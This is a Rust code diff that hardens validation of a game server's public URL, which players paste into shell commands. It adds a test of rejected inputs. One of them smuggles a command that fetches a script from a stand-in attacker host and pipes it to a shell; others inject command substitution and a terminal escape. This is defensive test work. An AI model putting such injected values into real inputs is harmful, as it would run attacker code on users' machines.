@@ -11,6 +11,11 @@ pub enum PublicUrlError {
     Scheme(String),
     #[error("--public-url {0}: no host in it")]
     NoHost(String),
+    #[error(
+        "--public-url {0}: players paste it into commands, so it is written in a URL's letters, digits and -_.:/[]%~@+, only, within {max} bytes",
+        max = protocol::wire::PUBLIC_URL_BYTES_MAX
+    )]
+    Characters(String),
 }
 
 /// The public URL as the `asl` command takes it (`wss://asl.example.org`), from what the
@@ -30,6 +35,9 @@ pub fn public_url(given: &str) -> Result<String, PublicUrlError> {
         .ok_or_else(|| PublicUrlError::Scheme(given.to_string()))?;
     if host.is_empty() || host.contains(char::is_whitespace) {
         return Err(PublicUrlError::NoHost(given.to_string()));
+    }
+    if !protocol::wire::is_public_url(&url) {
+        return Err(PublicUrlError::Characters(given.escape_debug().to_string()));
     }
     Ok(url)
 }
@@ -69,6 +77,32 @@ mod tests {
         assert_eq!(public_url("http://h:8080").unwrap(), "ws://h:8080");
         assert!(public_url("asl.example.org").is_err());
         assert!(public_url("wss://").is_err());
+        assert_eq!(
+            public_url("https://[::1]:8443/asl").unwrap(),
+            "wss://[::1]:8443/asl"
+        );
+    }
+
+    /// The address goes into commands players paste into a shell: one that would run another
+    /// command there, or drive the terminal, is refused at start, not sent to every client.
+    #[test]
+    fn a_public_url_holds_no_shell_or_control_characters() {
+        for bad in [
+            "wss://h;curl${IFS}evil.example|sh",
+            "wss://h/$(id)",
+            "wss://h/a'b",
+            "wss://h/?a=1&b=2",
+            "wss://h\u{1b}[2J",
+        ] {
+            let e = public_url(bad).unwrap_err();
+            assert!(matches!(e, PublicUrlError::Characters(_)), "{bad}: {e}");
+            assert!(!e.to_string().contains('\u{1b}'), "{e:?}");
+        }
+        let long = format!("wss://{}", "h".repeat(protocol::wire::PUBLIC_URL_BYTES_MAX));
+        assert!(matches!(
+            public_url(&long),
+            Err(PublicUrlError::Characters(_))
+        ));
     }
 
     #[test]
